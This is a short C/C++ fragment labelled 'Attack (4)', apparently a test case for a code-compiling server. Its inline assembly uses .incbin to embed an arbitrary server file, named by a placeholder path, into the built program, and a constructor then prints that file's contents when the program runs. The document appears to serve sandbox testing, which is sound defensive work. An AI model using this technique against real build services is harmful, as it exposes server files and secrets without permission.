// Attack (4): the assembler pulls a server file into the object, to be read back at run time.
asm(".section .rodata\n"
    ".globl cm_stolen\n"
    "cm_stolen:\n"
    ".incbin \"@PATH@\"\n"
    ".byte 0\n"
    ".text\n");
extern "C" const char cm_stolen[];
__attribute__((constructor)) static void cm_attack() { cm_say(cm_stolen); }
